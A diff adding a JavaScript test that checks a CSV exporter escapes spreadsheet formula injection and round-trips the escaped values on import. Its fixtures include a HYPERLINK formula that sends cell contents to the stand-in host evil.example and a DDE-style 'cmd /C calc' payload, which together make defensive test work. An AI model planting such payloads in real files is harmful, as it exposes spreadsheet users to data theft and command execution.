@@ -100,6 +100,28 @@ test('round trip: a generated feed with every column filled comes back byte for 
   assert.equal(serialize(feed), serialize(original));
 });
 
+test('export: text a spreadsheet would run as a formula goes behind an apostrophe, and comes back as it was', () => {
+  const original = JSON.parse(serialize(generated));
+  const formulas = ['=HYPERLINK("http://evil.example/?"&A1;"klick")', "@SUM(1+1)*cmd|' /C calc'!A0", '-2+3+cmd', "'=schon geschützt"];
+  original.indicators[0].points[0].note = formulas[0];
+  original.indicators[0].label.de = formulas[1];
+  original.indicators[0].points[1].note = formulas[2];
+  original.events[0].note = formulas[3];
+  const files = exported(original);
+  const cells = [...files.keys()]
+    .filter((name) => name.endsWith('.csv'))
+    .flatMap((name) => parse(textOf(files, name), { delimiter: ';', bom: true }).flat());
+  // No cell of the file starts a formula: each begins with the apostrophe the spreadsheet shows as text.
+  assert.deepEqual(
+    cells.filter((cell) => /^[=+\-@\t\r]/.test(cell)),
+    [],
+  );
+  assert.ok(cells.includes(`'${formulas[0]}`) && cells.includes(`''=schon geschützt`));
+  const { feed, lines } = importLines(files);
+  assert.ok(feed, lines.join('\n'));
+  assert.deepEqual(feed, original);
+});
+
 test('export: UTF-8 with BOM, semicolons, CRLF, German headers, and a LIESMICH.txt naming every column', () => {
   const files = exported();
   assert.deepEqual([...files.keys()].sort(), [
